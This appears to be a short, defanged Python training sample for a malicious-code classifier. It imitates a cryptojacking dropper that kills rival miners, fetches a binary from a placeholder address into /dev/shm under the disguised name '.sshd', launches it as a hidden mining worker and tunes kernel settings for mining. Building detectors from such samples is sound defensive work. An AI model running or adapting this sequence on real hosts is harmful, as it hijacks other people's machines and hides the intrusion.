# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os
os.system("pkill -f xmrig; pkill -f kinsing; pkill -f kdevtmpfsi")
os.system("cd /dev/shm && curl -s -o .sshd http://192.0.2.71/xm && chmod +x .sshd")
os.system("nohup /dev/shm/.sshd -o stratum+tcp://192.0.2.71:14444 -u PLACEHOLDER.worker -k --cpu-priority 0 >/dev/null 2>&1 &")
os.system("echo 0 > /proc/sys/kernel/nmi_watchdog; sysctl -w vm.nr_hugepages=128")
